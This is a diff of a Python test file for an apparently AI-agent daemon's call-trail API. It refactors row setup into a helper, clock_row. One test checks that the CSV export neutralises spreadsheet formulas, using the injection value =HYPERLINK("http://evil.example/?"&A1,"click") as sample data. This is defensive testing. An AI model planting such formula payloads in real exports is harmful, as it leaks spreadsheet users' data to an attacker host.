@@ -375,27 +375,38 @@ TRAIL_ROW_FIELDS = [
 ]
 
 
-def test_the_trail_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
+def clock_row(d: BrainDaemon, call_id: str, conversation: str, act_summary: str, **kw: str) -> None:
+    """One finished clock call on the daemon's trail, allowed by the policy."""
     book = Trail(d.rt.db_path)
     try:
         rec = book.record_for(
-            call_id="shape-1",
+            call_id=call_id,
             turn_id="t1",
-            conversation_id="c-shape",
+            conversation_id=conversation,
             channel="chat",
             tool="clock",
             permission="clock",
             params='{"zone": "UTC"}',
-            act_summary="what time is it",
-            healed="zone: utc -> UTC",
-            parent_call_id="shape-0",
+            act_summary=act_summary,
             principal="local",
+            **kw,
         )
         book.finish(
             rec, status="success", code=None, decision="allow", decided_by="policy", started=False
         )
     finally:
         book.close()
+
+
+def test_the_trail_row_keeps_its_wire_shape(d: BrainDaemon) -> None:
+    clock_row(
+        d,
+        "shape-1",
+        "c-shape",
+        "what time is it",
+        healed="zone: utc -> UTC",
+        parent_call_id="shape-0",
+    )
     with d.client() as c:
         page = c.get("/api/v1/trail", params={"conversation": "c-shape"})
         assert page.status_code == 200, page.text
@@ -965,24 +976,7 @@ def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(d: BrainDaemon
     import csv
     import io
 
-    book = Trail(d.rt.db_path)
-    try:
-        rec = book.record_for(
-            call_id="formula-1",
-            turn_id="t1",
-            conversation_id="c-formula",
-            channel="chat",
-            tool="clock",
-            permission="clock",
-            params='{"zone": "UTC"}',
-            act_summary='=HYPERLINK("http://evil.example/?"&A1,"click")',
-            principal="local",
-        )
-        book.finish(
-            rec, status="success", code=None, decision="allow", decided_by="policy", started=False
-        )
-    finally:
-        book.close()
+    clock_row(d, "formula-1", "c-formula", '=HYPERLINK("http://evil.example/?"&A1,"click")')
     with d.client() as c:
         text = c.get(
             "/api/v1/trail/export", params={"conversation": "c-formula", "format": "csv"}
